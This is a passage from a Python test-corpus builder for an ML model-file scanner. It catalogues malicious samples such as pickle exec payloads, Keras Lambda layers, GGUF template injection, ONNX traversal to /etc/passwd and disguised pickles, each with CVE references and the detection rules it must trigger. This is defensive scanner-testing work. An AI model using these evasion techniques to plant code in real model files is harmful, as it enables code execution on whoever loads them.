            "wrong CRC-32 on data.pkl (torch does not check it)",
            "CVE-2025-10156 (JFrog picklescan zero-days)",
            b(_bad_crc),
            trigger="torch",
        ),
        _Mal(
            "torch_legacy_sequential",
            ".pt",
            "legacy non-zip torch.save with exec in the object pickle",
            "torch _legacy_load",
            b(_torch_legacy),
            trigger="torch",
        ),
        _Mal(
            "torch_legacy_magic_header_payload",
            ".pt",
            "legacy format whose first (magic number) pickle is the payload",
            "torch _legacy_load unpickles the header first",
            b(_torch_legacy_header),
            trigger="torch",
        ),
        _Mal(
            "torch_legacy_tar",
            ".tar",
            "pre-1.0 torch tar format, payload in 'storages'",
            "torch legacy_load tar branch",
            b(_torch_legacy_tar),
            trigger="torch",
        ),
        _Mal(
            "npy_object_dtype_pickle",
            ".npy",
            "numpy .npy with object dtype (pickle payload)",
            "CVE-2019-6446 (numpy.load allow_pickle)",
            b(_npy_object_bytes),
            trigger="numpy",
        ),
        _Mal(
            "npz_object_member",
            ".npz",
            "npz with a clean array and an object array payload",
            "CVE-2019-6446",
            b(_npz_object),
            trigger="numpy_npz",
        ),
        _Mal(
            "joblib_plain",
            ".joblib",
            "joblib.dump of a payload",
            "joblib docs: never load untrusted",
            _joblib_dump(0),
            trigger="joblib",
        ),
        _Mal(
            "joblib_zlib",
            ".joblib",
            "joblib zlib-compressed payload",
            "joblib compress=('zlib', 3)",
            _joblib_dump(("zlib", 3)),
            trigger="joblib",
        ),
        _Mal(
            "joblib_gzip",
            ".joblib",
            "joblib gzip-compressed payload",
            "joblib compress=('gzip', 3)",
            _joblib_dump(("gzip", 3)),
            trigger="joblib",
        ),
        _Mal(
            "joblib_bz2",
            ".joblib",
            "joblib bz2-compressed payload",
            "joblib compress=('bz2', 3)",
            _joblib_dump(("bz2", 3)),
            trigger="joblib",
        ),
        _Mal(
            "joblib_xz",
            ".joblib",
            "joblib xz-compressed payload",
            "joblib compress=('xz', 3)",
            _joblib_dump(("xz", 3)),
            trigger="joblib",
        ),
        _Mal(
            "joblib_lzma",
            ".joblib",
            "joblib lzma-compressed payload",
            "joblib compress=('lzma', 3)",
            _joblib_dump(("lzma", 3)),
            trigger="joblib",
        ),
        _Mal(
            "nested_zip_in_tar_in_gzip",
            ".tar.gz",
            "pickle in zip in tar in gzip",
            "aisbom/ModelAudit nested archive scanning",
            b(_nested_archive),
            trigger=None,
        ),
        _Mal(
            "gzip_raw_pickle",
            ".gz",
            "gzip-compressed raw pickle",
            "nested archives",
            b(_gzip_pickle),
            trigger=None,
        ),
        _Mal(
            "plain_zip_pickle",
            ".zip",
            "pickle inside a plain zip",
            "nested archives",
            b(_plain_zip),
            trigger=None,
        ),
        _Mal(
            "plain_tar_pickle",
            ".tar",
            "pickle inside a plain tar",
            "nested archives",
            b(_plain_tar),
            trigger=None,
        ),
        _Mal(
            "sevenzip_pickle",
            ".7z",
            "pickle inside a 7z archive",
            "aisbom CHANGELOG (non-standard containers)",
            _sevenzip,
            trigger=None,
        ),
        _Mal(
            "keras_lambda_layer",
            ".keras",
            "Keras 3 .keras with a Lambda layer (marshal code)",
            "CVE-2024-3660 (Keras Lambda arbitrary code)",
            b(_keras_lambda),
            trigger=None,
        ),
        _Mal(
            "keras_config_module_function_reference",
            ".keras",
            "Keras config naming module 'os' class 'system'",
            "CVE-2025-1550 (Keras safe_mode bypass via config module refs)",
            b(_keras_module_ref),
            trigger=None,
        ),
        _Mal(
            "h5_lambda_config",
            ".h5",
            "Keras 2 HDF5 with a Lambda layer in model_config",
            "CVE-2024-3660; modelscan H5LambdaDetectScan",
            _h5_lambda,
            trigger=None,
        ),
        _Mal(
            "onnx_external_data_path_traversal",
            ".onnx",
            "external_data location escapes the folder",
            "CVE-2024-27318 / CVE-2024-5187 (onnx path traversal)",
            _onnx_traversal,
            trigger=None,
            canary=False,
        ),
        _Mal(
            "onnx_custom_operator_domain",
            ".onnx",
            "node in a custom operator domain",
            "ONNX Runtime custom-op libraries run native code",
            _onnx_custom_domain,
            trigger=None,
            canary=False,
        ),
        _Mal(
            "gguf_chat_template_ssti",
            ".gguf",
            "Jinja chat template reaching __subclasses__/os",
            "CVE-2024-34359 (llama-cpp-python 'Llama Drama')",
            b(_gguf_ssti),
            trigger="jinja",
        ),
        _Mal(
            "safetensors_overlapping_offsets",
            ".safetensors",
            "two tensors share bytes",
            "safetensors spec: offsets must not overlap (tampering)",
            b(_safetensors_overlap),
            trigger=None,
            canary=False,
        ),
        _Mal(
            "safetensors_oversized_header",
            ".safetensors",
            "header length of 1 TiB",
            "safetensors header size limit (DoS)",
            b(_safetensors_oversized),
            trigger=None,
            canary=False,
        ),
        _Mal(
            "hf_folder_auto_map_remote_code",
            "",
            "config.json auto_map + modeling_evil.py",
            "Hugging Face trust_remote_code (JFrog 2024)",
            _hf_auto_map,
            trigger="python_file:modeling_evil.py",
            folder=True,
        ),
        _Mal(
            "hf_trainer_checkpoint_rng_state",
            "",
            "Trainer checkpoint, payload in rng_state.pth",
            "Threat model T1 (shared checkpoint resumed by a colleague)",
            _trainer_ckpt("rng_state.pth"),
            trigger="torch_file:rng_state.pth",
            folder=True,
        ),
        _Mal(
            "hf_trainer_checkpoint_optimizer",
            "",
            "Trainer checkpoint, payload in optimizer.pt",
            "Threat model T1",
            _trainer_ckpt("optimizer.pt"),
            trigger="torch_file:optimizer.pt",
            folder=True,
        ),
        _Mal(
            "hf_trainer_checkpoint_training_args",
            "",
            "Trainer checkpoint, payload in training_args.bin",
            "Threat model T1; transformers loads training_args.bin with weights_only=False",
            _trainer_ckpt("training_args.bin"),
            trigger="torch_file:training_args.bin",
            folder=True,
        ),
        _Mal(
            "torch_whole_module_tampered_reduce",
            ".pt",
            "whole pickled nn.Sequential with a submodule replaced by a __reduce__ payload",
            "Threat model T1 (tampered whole-model checkpoint)",
            b(_whole_module_tampered),
            trigger="torch",
        ),
        _Mal(
            "disguise_pickle_as_safetensors",
            ".safetensors",
            "pickle named model.safetensors",
            "CVE-2025-1889 (Sonatype: extension-based discovery)",
            b(lambda c: pickle.dumps(_evil(c), protocol=2)),
        ),
        _Mal(
            "disguise_pickle_as_txt",
            ".txt",
            "protocol-0 pickle named notes.txt",
            "CVE-2025-10155 (JFrog: extension bypass)",
            b(lambda c: pickle.dumps(_evil(c), protocol=0)),
        ),
        _Mal(
            "disguise_pickle_as_json",
            ".json",
            "pickle named config.json",
            "CVE-2025-1889",
            b(lambda c: pickle.dumps(_evil(c), protocol=4)),
        ),
        _Mal(
            "disguise_torch_zip_as_bin",
            ".bin",
            "torch zip named pytorch_model.bin.part",
            "CVE-2025-10155",
            b(_torch_evil_zip),
            trigger="torch",
        ),
        _Mal(
            "zip_duplicate_member_names",
            ".pt",
            "two data.pkl entries, clean first and payload last (the one torch loads)",
            "zip parser differentials (picklescan GHSA-7q5r-7gvp-wc82 class)",
            b(_zip_duplicate_names),
            trigger="torch",
        ),
        _Mal(
            "polyglot_pickle_prefix_then_torch_zip",
            ".pt",
            "payload pickle prepended to a clean torch zip (torch takes the legacy path)",
            "pickle/zip polyglots (Trail of Bits fickling polyglot research)",
            b(_polyglot_pickle_zip),
            trigger="torch",
        ),
        _Mal(
            "npy_v3_header_object",
            ".npy",
            "npy format 3.0 header, object dtype pickle body",
            "numpy format spec 3.0; CVE-2019-6446",
            b(_npy_v3),
            trigger="numpy",
        ),
        _Mal(
            "gzip_multimember_split_pickle",
            ".gz",
            "payload pickle split across two gzip members",
            "RFC 1952 multi-member streams (gzip.decompress reads all members)",
            b(_gzip_multimember),
            trigger="gzip_pickle",
        ),
        _Mal(
            "gguf_named_chat_template_ssti",
            ".gguf",
            "SSTI in tokenizer.chat_template.tool_use",
            "CVE-2024-34359; GGUF named chat templates",
            b(_gguf_named_template),
            trigger="jinja:tokenizer.chat_template.tool_use",
        ),
        _Mal(
            "gguf_chat_template_obfuscated_attr",
            ".gguf",
            "SSTI with no literal dunder: |attr() and string concatenation",
            "CVE-2024-34359 (keyword-filter bypass)",
            b(_gguf_obfuscated),
            trigger="jinja",
        ),
        _Mal(
            "keras_activation_function_reference",
            ".keras",
            "Dense activation deserialised from module subprocess, function getoutput",
            "CVE-2025-1550 / CVE-2025-9906 (Keras config function references)",
            b(_keras_activation_ref),
            trigger=None,
        ),
        _Mal(
            "keras_lambda_nested_in_functional",
            ".keras",
            "Lambda inside a Sequential inside a Functional",
            "CVE-2024-3660 (nested configs)",
            b(_keras_nested_lambda),
            trigger=None,
        ),
        _Mal(
            "h5_lambda_config_bytes_attr",
            ".h5",
            "Keras 2 HDF5, model_config stored as bytes",
            "CVE-2024-3660; h5py bytes attributes",
            _h5_lambda_bytes_attr,
            trigger=None,
        ),
        _Mal(
            "onnx_external_data_absolute_path",
            ".onnx",
            "external_data location /etc/passwd",
            "CVE-2024-27318",
            _onnx_external_ref("/etc/passwd", False),
            trigger=None,
            canary=False,
        ),
        _Mal(
            "onnx_external_data_in_if_subgraph",
            ".onnx",
            "traversing external data in an If branch",
            "CVE-2024-5187 (subgraph initializers)",
            _onnx_external_ref("../../../etc/passwd", True),
            trigger=None,
            canary=False,
        ),
        _Mal(
            "safetensors_offsets_out_of_range",
            ".safetensors",
            "data_offsets beyond the file end",
            "safetensors spec (bounds check)",
            b(_safetensors_out_of_range),
            trigger=None,
            canary=False,
        ),
        _Mal(
            "hf_folder_tokenizer_auto_map",
            "",
            "tokenizer_config.json auto_map + tokenization_evil.py",
            "Hugging Face trust_remote_code via AutoTokenizer",
            _hf_tokenizer_auto_map,
            trigger="python_file:tokenization_evil.py",
            folder=True,
        ),
    ]


def _malicious_specs() -> list[_Mal]:
    from trainwarden.drill.samples_callables import callable_specs

    specs = _mal_pickles() + _mal_containers() + callable_specs()
    names = [s.name for s in specs]
    dupes = {n for n in names if names.count(n) > 1}
    if dupes:
        raise AssertionError(f"duplicate sample names: {sorted(dupes)}")
    return specs


# The rule(s) each malicious sample must raise (it must also fail at HIGH): a sample flagged only
# by an unrelated finding (an internal error, some other unknown global) is a miss.
_EXPECTED_RULES: dict[str, tuple[str, ...]] = {
    "reduce_exec_protocol_0": ("TWS-PKL-DANGEROUS",),
    "reduce_exec_protocol_1": ("TWS-PKL-DANGEROUS",),
    "reduce_exec_protocol_2": ("TWS-PKL-DANGEROUS",),
    "reduce_exec_protocol_3": ("TWS-PKL-DANGEROUS",),
    "reduce_exec_protocol_4": ("TWS-PKL-DANGEROUS",),
    "reduce_exec_protocol_5": ("TWS-PKL-DANGEROUS",),
    "global_os_system_protocol0": ("TWS-PKL-DANGEROUS",),
    "global_posix_system": ("TWS-PKL-DANGEROUS",),
    "stack_global_memo_strings": ("TWS-PKL-DANGEROUS",),
    "stack_global_memoize_binunicode8": ("TWS-PKL-DANGEROUS",),
    "stack_global_binunicode": ("TWS-PKL-DANGEROUS",),
    "stack_global_unicode_text": ("TWS-PKL-DANGEROUS",),
    "stack_global_string_opcode": ("TWS-PKL-DANGEROUS",),
    "stack_global_short_binstring": ("TWS-PKL-DANGEROUS",),
    "stack_global_binstring": ("TWS-PKL-DANGEROUS",),
    "inst_opcode_exec": ("TWS-PKL-DANGEROUS",),
    "obj_opcode_exec": ("TWS-PKL-DANGEROUS",),
    "newobj_functools_partial": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "newobj_ex_functools_partial": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "build_setstate_injection": ("TWS-PKL-DANGEROUS", "TWS-PKL-DUNDER-STATE"),
    "ext1_extension_registry": ("TWS-PKL-EXT",),
    "ext2_extension_registry": ("TWS-PKL-EXT",),
    "ext4_extension_registry": ("TWS-PKL-EXT",),
    "binpersid_pid_built_by_reduce": ("TWS-PKL-DANGEROUS",),
    "persid_after_payload": ("TWS-PKL-DANGEROUS",),
    "memo_get_undefined_key": ("TWS-PKL-DANGEROUS", "TWS-PKL-MEMO-UNDEFINED"),
    "frame_length_understated": ("TWS-PKL-DANGEROUS",),
    "frame_zero_then_real_frame": ("TWS-PKL-DANGEROUS",),
    "two_pickles_payload_in_second": ("TWS-PKL-DANGEROUS",),
    "garbage_after_stop": ("TWS-PKL-DANGEROUS",),
    "invalid_opcode_after_payload": ("TWS-PKL-DANGEROUS", "TWS-PKL-MALFORMED"),
    "truncated_after_payload": ("TWS-PKL-DANGEROUS", "TWS-PKL-TRUNCATED"),
    "fix_imports___builtin___eval": ("TWS-PKL-DANGEROUS",),
    "copy_reg_reconstructor_popen": ("TWS-PKL-DANGEROUS",),
    "dotted_pathlib_os_system": ("TWS-PKL-DANGEROUS",),
    "dotted_argparse__os_system": ("TWS-PKL-DANGEROUS",),
    "dotted_torch_serialization_os_system": ("TWS-PKL-DANGEROUS",),
    "dotted_builtins_getattr_chain": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "getattr_from_memo": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "operator_attrgetter": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "_operator_attrgetter_dotted": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "operator_methodcaller_touch": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "functools_partial_exec": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "importlib_import_module": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "pkgutil_resolve_name": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "types_functiontype_marshal_loads": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "runpy__run_code": ("TWS-PKL-DANGEROUS",),
    "bdb_bdb_run": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "cprofile_run": ("TWS-PKL-DANGEROUS",),
    "profile_run": ("TWS-PKL-DANGEROUS",),
    "timeit_timeit_setup": ("TWS-PKL-DANGEROUS",),
    "trace_trace_run": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "pdb_run": ("TWS-PKL-DANGEROUS",),
    "code_interactiveinterpreter_runsource": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "ctypes_cdll_system": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "asyncio_create_subprocess_exec": ("TWS-PKL-DANGEROUS",),
    "pty_spawn": ("TWS-PKL-DANGEROUS",),
    "_posixsubprocess_fork_exec": ("TWS-PKL-DANGEROUS",),
    "pip_main_log": ("TWS-PKL-DANGEROUS",),
    "ensurepip__run_pip": ("TWS-PKL-DANGEROUS",),
    "numpy_testing_runstring": ("TWS-PKL-DANGEROUS",),
    "torch_load_nested": ("TWS-PKL-DANGEROUS",),
    "torch_storage__load_from_bytes": ("TWS-PKL-DANGEROUS",),
    "numpy_load_nested": ("TWS-PKL-DANGEROUS",),
    "joblib_load_nested": ("TWS-PKL-DANGEROUS",),
    "pickle_loads_nested": ("TWS-PKL-DANGEROUS",),
    "_pickle_loads_base64": ("TWS-PKL-DANGEROUS",),
    "shutil_copyfile_tamper": ("TWS-PKL-DANGEROUS",),
    "os_mkdir_tamper": ("TWS-PKL-DANGEROUS",),
    "os_open_o_creat": ("TWS-PKL-DANGEROUS",),
    "_io_fileio_write": ("TWS-PKL-DANGEROUS",),
    "builtins_open_write": ("TWS-PKL-DANGEROUS",),
    "socket_unix_bind": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "webbrowser_genericbrowser": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "urllib_urlretrieve": ("TWS-PKL-DANGEROUS",),
    "builtins_eval_compile": ("TWS-PKL-DANGEROUS",),
    "sys_modules_getitem": ("TWS-PKL-CALL-COMPUTED", "TWS-PKL-DANGEROUS"),
    "subprocess_popen": ("TWS-PKL-DANGEROUS",),
    "subprocess_check_output": ("TWS-PKL-DANGEROUS",),
    "os_popen": ("TWS-PKL-DANGEROUS",),
    "os_posix_spawnp": ("TWS-PKL-DANGEROUS",),
    "doctest_run_docstring_examples": ("TWS-PKL-DANGEROUS",),
    "venv_create": ("TWS-PKL-DANGEROUS",),
    "mailcap_findmatch": ("TWS-PKL-DANGEROUS",),
    "memo_put_overwrite": ("TWS-PKL-DANGEROUS",),
    "memoize_after_sparse_binput": ("TWS-PKL-DANGEROUS",),
    "proto_switch_midstream_fix_imports": ("TWS-PKL-DANGEROUS",),
    "proto_switch_midstream_dotted_name": ("TWS-PKL-DANGEROUS",),
    "fix_imports_commands_getoutput": ("TWS-PKL-DANGEROUS",),
    "fix_imports_urllib_urlretrieve": ("TWS-PKL-DANGEROUS",),
    "dotted_allowlisted_torch_module_chain": ("TWS-PKL-DANGEROUS",),
    "dup_global_then_call": ("TWS-PKL-DANGEROUS",),
    "next_buffer_after_payload": ("TWS-PKL-DANGEROUS",),
    "torch_rebuild_decoy_then_exec": ("TWS-PKL-DANGEROUS",),
    "payload_inside_state_dict_value": ("TWS-PKL-DANGEROUS",),
    "torch_zip_payload_in_data_pkl": ("TWS-PKL-DANGEROUS",),
    "torch_zip_renamed_pickle_member": ("TWS-PKL-DANGEROUS",),
    "torch_zip_payload_in_non_pkl_member": ("TWS-PKL-DANGEROUS",),
    "torch_zip_different_prefix": ("TWS-PKL-DANGEROUS",),
    "torch_zip_deflated_members": ("TWS-PKL-DANGEROUS",),
    "zip_local_central_name_mismatch": ("TWS-PKL-DANGEROUS",),
    "zip_flag_bits_local_header": ("TWS-PKL-DANGEROUS",),
    "zip_bad_crc": ("TWS-PKL-DANGEROUS",),
    "torch_legacy_sequential": ("TWS-PKL-DANGEROUS",),
    "torch_legacy_magic_header_payload": ("TWS-PKL-DANGEROUS",),
    "torch_legacy_tar": ("TWS-PKL-DANGEROUS", "TWS-TORCH-LEGACY"),
    "torchscript_archive_code": ("TWS-TORCHSCRIPT",),
    "npy_object_dtype_pickle": ("TWS-PKL-DANGEROUS",),
    "npz_object_member": ("TWS-PKL-DANGEROUS",),
    "joblib_plain": ("TWS-PKL-DANGEROUS",),
    "joblib_zlib": ("TWS-PKL-DANGEROUS",),
    "joblib_gzip": ("TWS-PKL-DANGEROUS",),
    "joblib_bz2": ("TWS-PKL-DANGEROUS",),
    "joblib_xz": ("TWS-PKL-DANGEROUS",),
    "joblib_lzma": ("TWS-PKL-DANGEROUS",),
    "nested_zip_in_tar_in_gzip": ("TWS-PKL-DANGEROUS",),
    "gzip_raw_pickle": ("TWS-PKL-DANGEROUS",),
    "plain_zip_pickle": ("TWS-PKL-DANGEROUS",),
    "plain_tar_pickle": ("TWS-PKL-DANGEROUS",),
    "sevenzip_pickle": ("TWS-PKL-DANGEROUS",),
    "keras_lambda_layer": ("TWS-KERAS-001", "TWS-KERAS-002"),
    "keras_config_module_function_reference": ("TWS-KERAS-002",),
    "h5_lambda_config": ("TWS-KERAS-001",),
    "onnx_external_data_path_traversal": ("TWS-ONNX-002",),
    "onnx_custom_operator_domain": ("TWS-ONNX-003",),
    "gguf_chat_template_ssti": ("TWS-TPL-001",),
    "safetensors_overlapping_offsets": ("TWS-ST-008",),
    "safetensors_oversized_header": ("TWS-ST-001",),
    "hf_folder_auto_map_remote_code": ("TWS-HF-001", "TWS-HF-002"),
    "hf_trainer_checkpoint_rng_state": ("TWS-PKL-DANGEROUS",),
    "hf_trainer_checkpoint_optimizer": ("TWS-PKL-DANGEROUS",),
    "hf_trainer_checkpoint_training_args": ("TWS-PKL-DANGEROUS",),
    "torch_whole_module_tampered_reduce": ("TWS-PKL-DANGEROUS",),
    "disguise_pickle_as_safetensors": ("TWS-PKL-DANGEROUS",),
    "disguise_pickle_as_txt": ("TWS-PKL-DANGEROUS",),
    "disguise_pickle_as_json": ("TWS-PKL-DANGEROUS",),
    "disguise_torch_zip_as_bin": ("TWS-PKL-DANGEROUS",),
    "zip_duplicate_member_names": ("TWS-PKL-DANGEROUS", "TWS-ZIP-DUPLICATE"),
    "polyglot_pickle_prefix_then_torch_zip": ("TWS-PKL-DANGEROUS",),
    "npy_v3_header_object": ("TWS-PKL-DANGEROUS",),
    "gzip_multimember_split_pickle": ("TWS-PKL-DANGEROUS",),
    "gguf_named_chat_template_ssti": ("TWS-TPL-001",),
    "gguf_chat_template_obfuscated_attr": ("TWS-TPL-002",),
    "keras_activation_function_reference": ("TWS-KERAS-002",),
    "keras_lambda_nested_in_functional": ("TWS-KERAS-001", "TWS-KERAS-002"),
    "h5_lambda_config_bytes_attr": ("TWS-KERAS-001",),
    "onnx_external_data_absolute_path": ("TWS-ONNX-002",),
    "onnx_external_data_in_if_subgraph": ("TWS-ONNX-002",),
    "safetensors_offsets_out_of_range": ("TWS-ST-007",),
    "hf_folder_tokenizer_auto_map": ("TWS-HF-001", "TWS-HF-002"),
    "memmap_reduce_defining_module": ("TWS-PKL-DANGEROUS",),
    "memmap_reduce_numpy_core_alias": ("TWS-PKL-DANGEROUS",),
    "memmap_reexport_in_numpy_core": ("TWS-PKL-DANGEROUS",),
    "memmap_dotted_name_from_numpy": ("TWS-PKL-DANGEROUS",),
    "memmap_text_global_protocol2": ("TWS-PKL-DANGEROUS",),
    "memmap_stack_global_from_memo": ("TWS-PKL-DANGEROUS",),
    "memmap_newobj": ("TWS-PKL-DANGEROUS",),
    "memmap_newobj_ex_kwargs": ("TWS-PKL-DANGEROUS",),
    "memmap_copyreg_newobj": ("TWS-PKL-DANGEROUS",),
    "memmap_copyreg_newobj_ex": ("TWS-PKL-DANGEROUS",),
    "memmap_inst_opcode": ("TWS-PKL-DANGEROUS",),
    "memmap_obj_opcode": ("TWS-PKL-DANGEROUS",),
    "memmap_setitem_writes_byte": ("TWS-PKL-DANGEROUS",),
    "memmap_in_build_state": ("TWS-PKL-DANGEROUS",),
    "rebuild_from_type_v2_calls_memmap": ("TWS-PKL-DANGEROUS",),
    "rebuild_from_type_calls_memmap": ("TWS-PKL-DANGEROUS",),
    "rebuild_from_type_v2_newobj_chain": ("TWS-PKL-DANGEROUS",),
    "torch_zip_memmap_in_data_pkl": ("TWS-PKL-DANGEROUS",),
    "joblib_memmap_pickle": ("TWS-PKL-DANGEROUS",),
    "npy_object_array_memmap": ("TWS-PKL-DANGEROUS",),
    "torchscript_setstate_from_file": ("TWS-TORCHSCRIPT-OP",),
    "torchscript_helper_from_file": ("TWS-TORCHSCRIPT-OP",),
    "torchscript_submodule_from_file": ("TWS-TORCHSCRIPT-OP",),
}


@contextlib.contextmanager
def _quiet() -> Iterator[None]:
    # Third-party libraries warn while writing files (deprecations, tiny-dataset hints); those
    # warnings concern them, not the scanner under test, so they must not become test errors.
    # Their progress prints (training logs) would also land on the caller's stdout.
    sink = io.StringIO()
    with (
        warnings.catch_warnings(),
        contextlib.redirect_stdout(sink),
        contextlib.redirect_stderr(sink),
    ):
        warnings.simplefilter("ignore")
        yield


def _select(specs: list[Any], kind: str, only: str | None) -> list[Any]:
    if only is None or only == kind:
        return specs
    if only in ("malicious", "clean"):
        return []
    return [s for s in specs if s.name == only]


def sample_names(kind: Kind) -> list[str]:
    """Names of the samples of ``kind``, without building anything (for test parametrisation)."""
    specs: list[Any] = _malicious_specs() if kind == "malicious" else _clean_specs()
    return [s.name for s in specs]


def build_malicious(dest: Path, *, only: str | None = None) -> list[Sample]:
    """Write the malicious samples under ``dest/malicious`` (canaries go to ``dest/canaries``).

    ``only`` restricts the build to one sample name (or ``"malicious"``/``"clean"`` kinds).
    """
    dest = Path(dest).resolve()
    (dest / "canaries").mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    with _quiet():
        for spec in _select(_malicious_specs(), "malicious", only):
            rel = f"malicious/{spec.name}{spec.ext}"
            canary = dest / "canaries" / spec.name
            spec.build(dest / rel, canary)
            out.append(
                Sample(
                    name=spec.name,
                    relpath=rel,
                    kind="malicious",
                    technique=spec.technique,
                    reference=spec.reference,
                    canary=canary if spec.canary else None,
                    expected_rules=spec.expected_rules or _EXPECTED_RULES.get(spec.name),
                    trigger=spec.trigger,
                )
            )
    return out


# ------------------------------------------------------------------------------------------------
# Clean samples (written by the real libraries)
# ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Clean:
    name: str
    ext: str
    reference: str
    build: Callable[[Path], None]
    folder: bool = False


def _tsave(obj_fn: Callable[[], Any], **kw: Any) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import torch

        path.parent.mkdir(parents=True, exist_ok=True)
        torch.save(obj_fn(), path, **kw)

    return build


def _pdump(obj_fn: Callable[[], Any], protocol: int) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        _write(path, pickle.dumps(obj_fn(), protocol=protocol))

    return build


def _tiny_net() -> Any:
    import torch

    torch.manual_seed(0)
    return torch.nn.Sequential(
        torch.nn.Linear(4, 8),
        torch.nn.LayerNorm(8),
        torch.nn.ReLU(),
        torch.nn.Dropout(0.1),
        torch.nn.Linear(8, 2),
    )


def _sd_float() -> Any:
    return _tiny_net().state_dict()


def _sd_half() -> Any:
    import torch

    net = _tiny_net()
    return {"bf16": net.to(torch.bfloat16).state_dict(), "fp16": _tiny_net().half().state_dict()}


def _sd_quantized() -> Any:
    import torch

    t = torch.quantize_per_tensor(torch.randn(4, 4), 0.1, 3, torch.qint8)
    tc = torch.quantize_per_channel(
        torch.randn(4, 4), torch.rand(4) + 0.1, torch.zeros(4, dtype=torch.long), 0, torch.quint8
    )
    return {"per_tensor": t, "per_channel": tc}


def _sd_sparse() -> Any:
    import torch

    dense = torch.tensor([[0.0, 1.0, 0.0], [2.0, 0.0, 3.0]])
    return {"coo": dense.to_sparse(), "csr": dense.to_sparse_csr()}


def _sd_complex() -> Any:
    import torch

    return {
        "c64": torch.randn(3, dtype=torch.complex64),
        "c128": torch.randn(2, dtype=torch.complex128),
    }


def _torch_misc() -> Any:
    import torch

    return {
        "size": torch.Size([2, 3]),
        "device": torch.device("cpu"),
        "dtype": torch.float16,
        "int": torch.arange(5),
        "bool": torch.tensor([True, False]),
        "u8": torch.zeros(3, dtype=torch.uint8),
        "param": torch.nn.Parameter(torch.ones(2)),
        "scalar": torch.tensor(1.5),
        "view": torch.arange(10.0)[2:6],
    }


def _optim_state() -> Any:
    import torch

    net = _tiny_net()
    opt = torch.optim.AdamW(net.parameters(), lr=1e-3)
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=1, gamma=0.5)
    for _ in range(2):
        opt.zero_grad()
        net(torch.randn(3, 4)).sum().backward()
        opt.step()
        sched.step()
    sgd = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
    net(torch.randn(3, 4)).sum().backward()
    sgd.step()
    return {
        "model": net.state_dict(),
        "optimizer": opt.state_dict(),
        "scheduler": sched.state_dict(),
        "sgd": sgd.state_dict(),
        "epoch": 2,
    }


def _np_arrays() -> Any:
    import numpy as np

    return {
        "f32": np.arange(6, dtype=np.float32).reshape(2, 3),
        "i64": np.arange(3),
        "bool": np.array([True, False]),
        "scalar": np.float64(2.5),
        "int": np.int32(3),
        "dtype": np.dtype("float16"),
        "structured": np.zeros(2, dtype=[("a", "<i4"), ("b", "<f8")]),
    }


def _np_random() -> Any:
    import numpy as np

    return {"legacy": np.random.RandomState(0), "state": np.random.get_state()}


def _np_datetime() -> Any:
    import numpy as np

    return {
        "dt": np.array(["2024-01-01", "2024-06-30"], dtype="datetime64[D]"),
        "td": np.timedelta64(5, "s"),
        "scalar": np.datetime64("2024-01-01T12:00"),
    }


def _py_random() -> Any:
    import random

    r = random.Random(1234)  # noqa: S311 -- a model's data-order RNG, not cryptography
    return {"python": r.getstate()}


def _stdlib_objects() -> Any:
    import argparse
    import collections
    import datetime
    import decimal
    import fractions
    import pathlib

    return {
        "args": argparse.Namespace(lr=0.1, epochs=3, name="run"),
        "path": pathlib.PurePosixPath("/data/train"),
        "ppath": pathlib.PosixPath("/data/val"),
        "when": datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc),
        "date": datetime.date(2024, 1, 2),
        "delta": datetime.timedelta(hours=1),
        "dec": decimal.Decimal("1.25"),
        "frac": fractions.Fraction(3, 7),
        "od": collections.OrderedDict(a=1),
        "dd": collections.defaultdict(list, {"x": [1]}),
        "counter": collections.Counter("aab"),
        "deque": collections.deque([1, 2]),
        "set": {1, 2},
        "frozen": frozenset({3}),
        "complex": 1 + 2j,
        "bytes": b"\x00\x01",
        "bytearray": bytearray(b"ab"),
        "tuple": (1, "a", None, True, 1.5),
        "big": 2**100,
        "slice": slice(1, 5, 2),
        "range": range(3),
    }


def _joblib_model(kind: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import joblib
        import numpy as np
        from sklearn.ensemble import RandomForestClassifier  # type: ignore[import-untyped]
        from sklearn.linear_model import LogisticRegression  # type: ignore[import-untyped]
        from sklearn.pipeline import Pipeline  # type: ignore[import-untyped]
        from sklearn.preprocessing import StandardScaler  # type: ignore[import-untyped]

        rng = np.random.RandomState(0)
        x = rng.randn(40, 3)
        y = (x[:, 0] > 0).astype(int)
        model: Any
        compress: Any = 0
        if kind == "logreg":
            model = LogisticRegression().fit(x, y)
        elif kind == "forest":
            model = RandomForestClassifier(n_estimators=3, max_depth=2, random_state=0).fit(x, y)
        elif kind == "pipeline":
            model = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y)
        else:
            model = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y)
            compress = 3
        path.parent.mkdir(parents=True, exist_ok=True)
        joblib.dump(model, str(path), compress=compress)

    return build


def _hf_gpt2(safe: bool) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        from transformers import GPT2Config, GPT2LMHeadModel

